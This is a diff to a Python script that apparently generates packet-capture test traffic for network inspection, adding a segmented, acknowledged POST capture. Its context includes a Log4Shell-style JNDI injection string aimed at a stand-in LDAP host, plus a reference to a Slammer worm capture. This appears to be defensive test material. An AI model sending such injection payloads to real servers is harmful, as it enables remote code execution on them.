@@ -150,6 +150,16 @@ def resent():
     return t.close()
 
 
+def waited():
+    """A body of which the server acknowledges each segment before the next one comes."""
+    t = Talk(ts=True)
+    body = b'POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1500\r\n\r\n' + b'p' * 1500
+    for i in range(0, len(body), 300):
+        t.say(t.c, body[i:i + 300])
+    t.say(t.s, OK)
+    return t.close()
+
+
 def grown():
     """An edit in a segment of the size of the MSS."""
     body = b'GET /?a=${jndi:ldap://x/a} HTTP/1.1\r\nHost: a\r\nX: ' + b'y' * 1400 + b'\r\n\r\n'
@@ -209,6 +219,7 @@ def captures(where):
     put('grown', grown())
     put('post', web(b'POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1500\r\n\r\n' + b'p' * 1500,
                     PLAIN, size=400))
+    put('post-acked', waited())
     put('two', web(RED) + web(PLAIN, start=1))
     put('midstream', midstream())
     put('slammer', slammer())
